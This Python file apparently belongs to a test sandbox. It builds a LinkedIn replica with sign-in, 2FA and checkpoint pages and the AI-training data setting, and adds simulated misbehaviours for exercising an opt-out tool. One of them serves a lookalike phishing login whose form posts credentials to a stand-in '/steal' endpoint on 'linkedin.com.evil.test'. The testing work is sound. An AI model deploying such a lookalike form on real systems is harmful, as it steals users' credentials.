"""LinkedIn replica: sign-in (with 2FA and checkpoint pages) and the data-for-AI setting, built the
way LinkedIn's Artdeco toggles are: a visually hidden checkbox with role=switch behind its label;
and the Data Processing Objection Form for AI models that do not generate content (a help-centre
form that, as far as anyone knows, does not remember an earlier objection; it asks name, e-mail
and a required "type of objection", docs/research/evidence-2026-12.md)."""

from __future__ import annotations

import html
import json
from urllib.parse import quote, urlsplit

from optout.sandbox.kit import challenge
from optout.sandbox.kit.objection import ObjectionForm, route
from optout.sandbox.replica import Replica, Request, Response, late_page, page, redirect

SETTING_PATH = "/mypreferences/d/settings/data-for-ai-improvement"
LABEL = "Use my data for training content creation AI models"
CHANGED_LABEL = "Allow data use for generative AI features"
#: The german, french, spanish, italian and portuguese misbehaviours: LinkedIn's labels as the press
#: quotes them (no vendor source; docs/research/languages-2026-12.md §2.1 and §7): page language,
#: page name, switch label, on/off words ("" where not found).
LOCALIZED = {
    "german": (
        "de",
        "Daten zur Verbesserung generativer KI",
        "Ihre Daten zum Schulen von KI-Modellen verwenden, um Inhalte zu erstellen",
        ("Ein", "Aus"),
    ),
    "french": (
        "fr",
        "Données pour l’amélioration de l’IA générative",
        "Utiliser mes données pour entraîner des modèles d’IA de création de contenu",
        ("", ""),
    ),
    "spanish": (
        "es",
        "Datos para mejorar la IA generativa",
        "Usar mis datos para entrenar modelos de IA de generación de contenido",
        ("", ""),
    ),
    "italian": (
        "it",
        "Dati per migliorare l’IA generativa",
        "Usa i miei dati per addestrare i modelli di IA per la creazione di contenuti",
        ("Sì", "No"),
    ),
    "portuguese": (
        "pt-BR",
        "Dados para aprimoramento da IA generativa",
        "Usar meus dados para treinar modelos de IA para criar conteúdos",
        ("", ""),
    ),
}
GERMAN_LABEL, FRENCH_LABEL = LOCALIZED["german"][2], LOCALIZED["french"][2]
#: The language misbehaviour: a language the flow does not know (the text stays English: no
#: Finnish string is sourced, and nothing may be read on such a page anyway).
FOREIGN_LANG = "fi"
LOGIN_PATHS = ("/login", "/uas/login", "/checkpoint/lg/login")
OBJECTION = ObjectionForm(
    setting="ai-objection",
    path="/help/linkedin/ask/TS-DPRO",
    title="Data Processing Objection Form | LinkedIn Help",
    heading="Data Processing Objection Form",
    intro="Object to LinkedIn using your personal data to train AI models that do not generate content.",
    reason_label="Describe your objection (optional)",
    received="We've received your request.",
    name_label="Full name",
    choice=(
        "Type of objection",
        "select",
        "Use of my data for AI training",
        ("Direct marketing", "Profiling for personalised content", "Other"),
    ),
    unavailable="This form isn't available in your country or region.",
    remembers=False,
)


class LinkedIn(Replica):
    platform = "linkedin"
    consent_style = "linkedin"  # its cookie-consent dialog (kit/consent.py)
    hosts = ("www.linkedin.com", "linkedin.com.evil.test")
    settings = ("generative-ai", "ai-objection")
    session_cookie = ("li_at", "www.linkedin.com")

    def signed_in(self, req: Request) -> bool:
        return req.cookies.get("li_at") in self.state["sessions"]

    def account_settings(self, req: Request) -> dict:
        """The signed-in account's own settings."""
        return self.settings_of(self.session_user(req.cookies.get("li_at")))

    def handle(self, req: Request) -> Response:
        if urlhost(req.url) == "linkedin.com.evil.test":
            return self.login_page(req, lookalike=True)
        if req.path in LOGIN_PATHS:
            if self.misbehaves("lookalike_login") and req.path == "/login":
                return redirect("https://linkedin.com.evil.test/login")
            if self.signed_in(req):
                return redirect(req.query.get("session_redirect") or "/feed/")
            return self.login_page(req)
        user = self.session_user(req.cookies.get("li_at"))
        answer = route(
            self, (OBJECTION,), req, user, "/uas/login?session_redirect=" + quote(req.url, safe="")
        )
        if answer is not None:
            return answer
        if req.path == "/checkpoint/lg/login-submit" and req.method == "POST":
            return self.login_submit(req)
        if req.path == "/checkpoint/challenge/verify" and req.method == "POST":
            return self.verify_pin(req)
        if req.path.startswith("/feed"):
            if not self.signed_in(req):
                return redirect("/authwall?sessionRedirect=" + quote(req.url))
            return page("<h1>Home</h1><p>Your feed</p>", title="Feed | LinkedIn")
        if req.path == "/authwall":
            return page('<h1>Join LinkedIn</h1><a href="/login">Sign in</a>', title="LinkedIn")
        if req.path == SETTING_PATH:
            if not self.signed_in(req):
                return redirect("/uas/login?session_redirect=" + quote(req.url, safe=""))
            return self.setting_page(req)
        if (
            req.path == "/mypreferences/api/settings/data-for-ai-improvement"
            and req.method == "POST"
        ):
            return self.save(req)
        return Response(status=404, body="<h1>Page not found</h1>")

    # --- sign-in -------------------------------------------------------------------------------

    def login_page(self, req: Request, *, error: str = "", lookalike: bool = False) -> Response:
        redirect_to = html.escape(
            req.query.get("session_redirect", req.form.get("session_redirect", ""))
        )
        action = (
            "https://linkedin.com.evil.test/steal" if lookalike else "/checkpoint/lg/login-submit"
        )
        body = f"""
<h1>Sign in</h1><p>Stay updated on your professional world</p>
<form method="post" action="{action}">
  <input type="hidden" name="session_redirect" value="{redirect_to}">
  <label for="username">Email or phone</label>
  <input id="username" name="session_key" type="text" autocomplete="username">
  <div id="error-for-username" role="alert"></div>
  <label for="password">Password</label>
  <input id="password" name="session_password" type="password" autocomplete="current-password">
  <div id="error-for-password" role="alert">{html.escape(error)}</div>
  <input id="rememberMeOptIn-checkbox" type="checkbox" checked><label for="rememberMeOptIn-checkbox">Keep me logged in</label>
  <button type="submit" class="btn__primary--large">Sign in</button>
</form>"""
        return page(body, title="LinkedIn Login, Sign in | LinkedIn")

    def login_submit(self, req: Request) -> Response:
        username, password = req.form.get("session_key", ""), req.form.get("session_password", "")
        ok = self.check_password(username, password)
        if not ok:
            return self.login_page(
                req, error="Wrong email or password. Try again or create an account."
            )
        target = req.form.get("session_redirect") or "/feed/"
        if self.misbehaves("checkpoint"):
            return page(
                """<h1>Let's do a quick security check</h1>
<p>Help us keep LinkedIn safe.</p>
<iframe title="Security verification" src="https://client-api.arkoselabs.com/fc/gc/"></iframe>
<button>Start puzzle</button>""",
                title="Security Verification | LinkedIn",
                script="history.replaceState(null, '', '/checkpoint/challenge/AgH3x');",
            )
        if self.misbehaves("email_pin"):
            return self.email_pin_page(target, username)
        if self.wants_code(username):
            return self.pin_page(target, username=username)
        return self.signed_in_redirect(target, username)

    def email_pin_page(self, target: str, username: str) -> Response:
        """email_pin: the checkpoint of eracle/OpenOutreach issue 796, a PIN sent by e-mail, in a
        field whose id no flow declares (only the engine's own recognition names it)."""
        token, record = challenge.start(self, "email_code", username, target)
        field = challenge.widget(
            token, record, input_attrs='id="input__email_pin_v2" autocomplete="off"'
        )
        return page(
            f"""<h1>Let's do a quick security check</h1>
<p>We've sent a 6-digit verification code to your email address. Enter it below to sign in.</p>
{field}""",
            title="Security Verification | LinkedIn",
            script=challenge.script(token)
            + "history.replaceState(null, '', '/checkpoint/challenge/AgEpin');",
        )

    def captcha_page(self, target: str, user: str | None, *, then: str = "sign_in") -> Response:
        """An Arkose checkpoint a person solves (its frame's button; kit/challenge.py)."""
        token, _ = challenge.start(self, "captcha", user, target, then=then)
        return page(
            """<h1>Let's do a quick security check</h1><p>Help us keep LinkedIn safe.</p>
<iframe title="Security verification" src="https://client-api.arkoselabs.com/fc/gc/"></iframe>""",
            title="Security Verification | LinkedIn",
            script=challenge.script(token)
            + "history.replaceState(null, '', '/checkpoint/challenge/AgCap');",
        )

    def challenge_passed(self, username: str | None, target: str) -> Response:
        return self.signed_in_redirect(target, username or self.state["username"])

    def pin_page(self, target: str, error: str = "", *, username: str = "") -> Response:
        return page(
            f"""<h1>Enter the code from your authenticator app</h1>
<form id="two-step-challenge" method="post" action="/checkpoint/challenge/verify">
  <input type="hidden" name="target" value="{html.escape(target)}">
  <input type="hidden" name="who" value="{html.escape(username)}">
  <label for="input__phone_verification_pin">Enter code</label>
  <input id="input__phone_verification_pin" name="pin" inputmode="numeric" autocomplete="one-time-code">
  <p role="alert">{html.escape(error)}</p>
  <button id="two-step-submit-button" type="submit">Submit</button>
</form>""",
            title="Security Verification | LinkedIn",
            script="history.replaceState(null, '', '/checkpoint/challenge/AgFtwo');",
        )

    def verify_pin(self, req: Request) -> Response:
        username = req.form.get("who", "")
        ok = self.check_code(username, req.form.get("pin", ""), event="pin")
        if not ok:
            return self.pin_page(
                req.form.get("target", "/feed/"), error="That code didn't work.", username=username
            )
        return self.signed_in_redirect(req.form.get("target") or "/feed/", username)

    def signed_in_redirect(self, target: str, username: str) -> Response:
        if not target.startswith("https://www.linkedin.com/") and not target.startswith("/"):
            target = "/feed/"
        token = self.new_session(username)
        return redirect(target, headers={"set-cookie": f"li_at={token}; Path=/; Secure; HttpOnly"})

    # --- the setting ---------------------------------------------------------------------------

    def setting_page(self, req: Request) -> Response:
        user = self.session_user(req.cookies.get("li_at"))
        if (
            self.misbehaves("captcha_on_reload")
            and self.events("save")
            and not challenge.cleared(self, "captcha", req)
        ):
            return self.captcha_page(req.url, user, then="clear")
        if self.misbehaves("absent"):
            return page(
                "<h1>Data for Generative AI Improvement</h1>"
                "<p>This setting isn't available in your region.</p>",
                title="Settings | LinkedIn",
            )
        on = self.account_settings(req)["generative-ai"]
        lang, heading, label, words = (
            "en",
            "Data for Generative AI Improvement",
            LABEL,
            ("On", "Off"),
        )
        for misbehaviour, localized in LOCALIZED.items():
            if self.misbehaves(misbehaviour):
                lang, heading, label, words = localized
        if self.misbehaves("state_word_lies"):  # the word beside the switch says the opposite
            words = words[::-1]
        if self.misbehaves("label_gone"):
            label = CHANGED_LABEL
        if self.misbehaves("language"):
            lang = FOREIGN_LANG
        checked = "true" if on else "false"
        control = f"""
<section class="setting" aria-labelledby="ai-heading">
  <h1 id="ai-heading">{html.escape(heading)}</h1>
  <p>Can LinkedIn use your personal data and content you create on LinkedIn to train generative
  AI models that create content?</p>
  <div class="artdeco-toggle">
    <input id="toggle-ai" class="sr input artdeco-toggle__button" type="checkbox" role="switch"
      aria-checked="{checked}" {"checked" if on else ""} data-artdeco-toggle-button="true">
    <label for="toggle-ai" style="display:flex;gap:12px;cursor:pointer;padding:8px 0">
      <span>{html.escape(label)}</span><span class="state" aria-hidden="true">{words[0] if on else words[1]}</span>
    </label>
  </div>
  <p>When this setting is on, LinkedIn can use your data and content to train content-generating
  AI models that are used in product features. The data we use for this purpose does not include
  your private messages.</p>
  <div id="toast" role="status"></div>
</section>"""
        # Optimistic UI, as single-page apps do: the switch flips before the server answers.
        script = (
            f"const words = {json.dumps(words)};"
            + """
const input = document.getElementById('toggle-ai');
input.addEventListener('change', async () => {
  input.setAttribute('aria-checked', String(input.checked));
  document.querySelector('.state').textContent = input.checked ? words[0] : words[1];
  const r = await fetch('/mypreferences/api/settings/data-for-ai-improvement', {
    method: 'POST', headers: {'content-type': 'application/json'},
    body: JSON.stringify({on: input.checked})});
  document.getElementById('toast').textContent = r.ok ? 'Saved' : 'Something went wrong. Try again later.';
});"""
        )
        if self.misbehaves("late_captcha") and not challenge.cleared(self, "captcha", req):
            return self.late_captcha(req, user, control, script, lang)
        if self.misbehaves("slow_render"):
            return late_page(control, title="Settings | LinkedIn", lang=lang, script=script)
        return page(control, title="Settings | LinkedIn", lang=lang, script=script)

    def late_captcha(
        self, req: Request, user: str | None, control: str, script: str, lang: str
    ) -> Response:
        """late_captcha: the page loads, an Arkose check covers it 1 s later, and the setting would
        render at 2 s (a challenge that appears after the settings page loaded)."""
        token, _ = challenge.start(self, "captcha", user, req.url, then="clear")
        cover = """<div id="cover" role="dialog" aria-modal="true" hidden
  style="position:fixed;inset:0;background:#fff;z-index:9"><h2>Let's do a quick security check</h2>
<iframe title="Security verification" src="https://client-api.arkoselabs.com/fc/gc/"></iframe></div>"""
        answer = late_page(
            control, title="Settings | LinkedIn", lang=lang, script=script, keep=cover
        )
        late = (
            challenge.script(token)
            + "setTimeout(() => { document.getElementById('cover').hidden = false; }, 1000);"
        )
        answer.body = answer.body.replace("</body>", f"<script>{late}</script></body>", 1)
        return answer

    def save(self, req: Request) -> Response:
        if not self.signed_in(req):
            return Response(status=401, body="{}", content_type="application/json")
        value = bool((req.json or {}).get("on"))
        if not self.saved(self.account_settings(req), "generative-ai", value, on=value):
            return Response(
                status=500, body='{"error":"internal"}', content_type="application/json"
            )
        return Response(body='{"ok":true}', content_type="application/json")


def urlhost(url: str) -> str:
    return urlsplit(url).hostname or ""
